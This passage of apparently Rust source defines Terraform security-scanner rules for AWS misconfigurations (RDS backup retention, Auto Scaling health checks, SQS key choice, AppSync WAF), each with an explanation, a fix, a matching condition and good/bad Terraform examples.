        when: And(&[super::aws_data::NOT_REPLICA, Or(&[Lt("backup_retention_period", 1.0), Gt("backup_retention_period", 35.0)])]),
        aliases: ["CKV_AWS_133", "AVD-AWS-0077", "AWS-0077"],
        bad: r#"resource "aws_db_instance" "d" {
  engine                  = "postgres"
  backup_retention_period = 0
}
"#,
        good: r#"resource "aws_db_instance" "d" {
  engine                  = "postgres"
  backup_retention_period = 14
}
"#,
    },
    {
        id: "aws-asg-no-elb-health-check",
        severity: Low,
        types: ["aws_autoscaling_group", "aws_autoscaling_attachment"],
        service: "autoscaling",
        summary: "An Auto Scaling group behind a load balancer that only uses EC2 health checks",
        why: "With `health_check_type = \"EC2\"` (the default) the group replaces instances only when the VM fails; an instance whose application stopped answering the load balancer stays in service.",
        fix: "Set `health_check_type = \"ELB\"` on the group that is attached to the load balancer",
        message: "attached to a load balancer but health checks are EC2 only",
        when: Or(&[
            And(&[
                Type("aws_autoscaling_group"),
                Or(&[Not(&Empty("load_balancers")), Not(&Empty("target_group_arns"))]),
                Or(&[Set("load_balancers"), Set("target_group_arns")]),
                Not(&Eq("health_check_type", "ELB")),
            ]),
            And(&[
                Type("aws_autoscaling_attachment"),
                Target { types: &["aws_autoscaling_group"], via: "autoscaling_group_name", cond: &Not(&Eq("health_check_type", "ELB")) },
            ]),
        ]),
        aliases: ["CKV2_AWS_15"],
        bad: r#"resource "aws_autoscaling_group" "web" {
  max_size          = 4
  min_size          = 2
  target_group_arns = [aws_lb_target_group.web.arn]
}
"#,
        good: r#"resource "aws_autoscaling_group" "web" {
  max_size          = 4
  min_size          = 2
  target_group_arns = [aws_lb_target_group.web.arn]
  health_check_type = "ELB"
}
"#,
    },
    {
        id: "aws-sqs-aws-managed-key",
        severity: Low,
        types: ["aws_sqs_queue"],
        service: "sqs",
        summary: "An SQS queue encrypted with the AWS managed key instead of a customer managed key",
        why: "The AWS managed key `alias/aws/sqs` cannot be given a key policy or cross-account grants and is not under the account's rotation and revocation control.",
        fix: "Set `kms_master_key_id` to a customer managed KMS key",
        message: "queue uses the AWS managed key alias/aws/sqs",
        when: Eq("kms_master_key_id", "alias/aws/sqs"),
        aliases: ["CKV2_AWS_73"],
        bad: r#"resource "aws_sqs_queue" "q" {
  name              = "jobs"
  kms_master_key_id = "alias/aws/sqs"
}
"#,
        good: r#"resource "aws_sqs_queue" "q" {
  name              = "jobs"
  kms_master_key_id = aws_kms_key.queue.arn
}
"#,
    },
    {
        id: "aws-appsync-no-waf",
        severity: Low,
        types: ["aws_appsync_graphql_api"],
        service: "appsync",
        summary: "An AppSync GraphQL API without a WAF web ACL",
        why: "A GraphQL endpoint accepts arbitrarily expensive queries; a web ACL adds rate limiting, IP reputation lists and managed rules in front of it.",
        note: "An `aws_wafv2_web_acl_association` in the same configuration counts.",
        fix: "Associate a WAFv2 web ACL with the API (`aws_wafv2_web_acl_association` with `resource_arn` = the API's ARN)",
        message: "no WAF web ACL is associated with the API",
        when: Not(&Related { types: &["aws_wafv2_web_acl_association"], via: "resource_arn", cond: None }),
        aliases: ["CKV2_AWS_33"],
        bad: r#"resource "aws_appsync_graphql_api" "api" {
  name                = "api"
  authentication_type = "AMAZON_COGNITO_USER_POOLS"
}
"#,
        good: r#"resource "aws_appsync_graphql_api" "api" {
  name                = "api"
  authentication_type = "AMAZON_COGNITO_USER_POOLS"
}

resource "aws_wafv2_web_acl_association" "api" {
  resource_arn = aws_appsync_graphql_api.api.arn
  web_acl_arn  = aws_wafv2_web_acl.api.arn
}
"#,
    },
}
